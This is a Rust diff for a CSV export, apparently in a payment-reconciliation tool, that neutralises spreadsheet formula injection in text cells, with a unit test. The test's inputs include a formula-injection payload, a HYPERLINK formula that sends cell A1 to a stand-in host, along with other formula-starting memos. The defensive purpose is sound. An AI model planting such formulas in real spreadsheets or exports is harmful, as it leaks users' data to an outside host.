@@ -177,6 +177,18 @@ fn chain_order(mut movements: Vec<StoredMovement>) -> Vec<StoredMovement> {
 }
 
 /// RFC 4180 CSV with a header line.
+/// A text cell a spreadsheet will not run: one that begins with what starts
+/// a formula (`=`, `+`, `-`, `@`, a tab, a carriage return) gets a leading
+/// `'`, which spreadsheets show as text. Anyone can put a memo on a transfer
+/// of 0.000001; the accountant's spreadsheet must not run it.
+pub fn text_cell(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
 pub fn csv(rows: &[Row]) -> String {
     let field = |text: &str| {
         if text.contains([',', '"', '\n', '\r']) {
@@ -188,18 +200,19 @@ pub fn csv(rows: &[Row]) -> String {
     let mut out = COLUMNS.join(",");
     out.push_str("\r\n");
     for row in rows {
+        // Text cells neutralised; numbers (a signed amount too) as they are.
         let cells = [
-            row.signature.clone(),
+            text_cell(&row.signature),
             row.slot.to_string(),
-            row.block_time.clone(),
-            row.kind.clone(),
-            row.invoice_id.clone(),
-            row.counterparty.clone(),
+            text_cell(&row.block_time),
+            text_cell(&row.kind),
+            text_cell(&row.invoice_id),
+            text_cell(&row.counterparty),
             row.amount.clone(),
             row.fee_sol.clone(),
             row.running_balance.clone(),
-            row.memo.clone(),
-            row.verdict.clone(),
+            text_cell(&row.memo),
+            text_cell(&row.verdict),
             row.difference.clone(),
         ];
         let cells: Vec<String> = cells.iter().map(|c| field(c)).collect();
@@ -274,5 +287,45 @@ mod tests {
         );
         assert_eq!(parse_time("2026-11-01"), Ok(1_793_491_200));
         assert!(parse_time("yesterday").is_err());
+    }
+
+    /// Issue 33, item 16: a memo that a spreadsheet would run as a formula
+    /// is written as text; numbers, negative ones too, stay numbers.
+    #[test]
+    fn csv_text_cells_never_run_as_formulas() {
+        for (memo, cell) in [
+            (
+                r#"=HYPERLINK("http://x/?"&A1,"Click")"#,
+                r#""'=HYPERLINK(""http://x/?""&A1,""Click"")""#,
+            ),
+            ("+1+2", "'+1+2"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("\rcmd", "\"'\rcmd\""),
+            ("invoice:inv_7", "invoice:inv_7"),
+        ] {
+            let row = Row {
+                signature: "s".into(),
+                slot: 1,
+                block_time: iso8601(1_700_000_000),
+                kind: "unmatched".into(),
+                invoice_id: String::new(),
+                counterparty: String::new(),
+                amount: signed_amount(-1_500_000),
+                fee_sol: format_amount(5000, 9),
+                running_balance: "0".into(),
+                memo: memo.into(),
+                verdict: String::new(),
+                difference: "-3".into(),
+            };
+            let text = csv(&[row]);
+            let line = text.split("\r\n").nth(1).unwrap();
+            assert_eq!(
+                line,
+                format!("s,1,2023-11-14T22:13:20Z,unmatched,,,-1.5,0.000005,0,{cell},,-3"),
+                "{memo:?}"
+            );
+        }
     }
 }
